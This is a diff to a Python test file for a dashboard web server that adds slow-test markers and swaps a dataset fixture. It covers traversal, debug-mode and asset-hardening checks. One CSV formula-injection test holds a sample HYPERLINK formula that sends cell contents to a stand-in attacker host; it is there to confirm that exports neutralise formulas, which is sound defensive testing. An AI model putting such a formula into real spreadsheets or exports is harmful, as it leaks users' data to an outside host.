@@ -36,7 +36,6 @@ from dashboard.render import batch as render_batch_module
 from dashboard.render import export_figure as export_module
 from dashboard.render.export_figure import ImageOptions
 from dashboard.render.exporter import Exporter
-from dashboard.sources.dataset import load_dataset
 from dashboard.sources.paths import assets_dir
 from dashboard.testing import new_exporter
 from dashboard.web.app import Settings, create_app, create_server
@@ -81,6 +80,7 @@ def test_the_default_server_listens_on_loopback_only(live_server):
     assert _listening(live_server.port) == ["127.0.0.1"]
 
 
+@pytest.mark.slow
 @needs_proc
 def test_all_interfaces_give_a_warning_on_stderr():
     server = LiveServer(["--host", "0.0.0.0"])
@@ -188,6 +188,7 @@ def _get(url: str) -> str:
         return response.read().decode()
 
 
+@pytest.mark.slow
 def test_debug_env_variables_do_not_switch_debug_on(tmp_path):
     env = {**os.environ, "DASH_DEBUG": "true", "FLASK_DEBUG": "1", "DASH_DEV_TOOLS_UI": "true"}
     server = LiveServer([], env=env)
@@ -199,6 +200,7 @@ def test_debug_env_variables_do_not_switch_debug_on(tmp_path):
         server.stop()
 
 
+@pytest.mark.slow
 def test_debug_only_with_the_debug_flag(live_server):
     config = _dash_config(_get(live_server.url + "/"))
     assert config["ui"] is False and config["props_check"] is False
@@ -206,6 +208,7 @@ def test_debug_only_with_the_debug_flag(live_server):
     assert _dash_config(create_app(Settings()).server.test_client().get("/").data.decode())["ui"] is False
 
 
+@pytest.mark.slow
 def test_debug_flag_turns_dev_tools_on():
     """`serve --debug` works (the reloader's child reuses its parent's socket) and shows the dev tools."""
     # A group of its own: the reloader runs the server in a child process, stopped with the group.
@@ -291,6 +294,7 @@ def _check(status: int, body: bytes, path: str) -> None:
         assert secret not in body, (path, secret)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("path", TRAVERSALS + LISTINGS)
 def test_paths_in_process(path):
     client = create_app(Settings()).server.test_client()
@@ -320,6 +324,7 @@ def test_paths_over_http(own_server):
     assert live_server.process.poll() is None
 
 
+@pytest.mark.slow
 def test_assets_are_served_and_hardened():
     client = create_app(Settings()).server.test_client()
     response = client.get("/assets/topojson/europe_110m.json")
@@ -340,6 +345,7 @@ def test_assets_hold_no_links_out():
 # CSV formula injection
 
 
+@pytest.mark.slow
 def test_statements_csv_neutralises_formulas(tmp_path):
     summaries = [
         '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
@@ -395,8 +401,8 @@ def test_statements_csv_neutralises_formulas(tmp_path):
 
 
 @pytest.fixture(scope="module")
-def data():
-    return load_dataset()
+def data(bundled_data):
+    return bundled_data
 
 
 @pytest.fixture
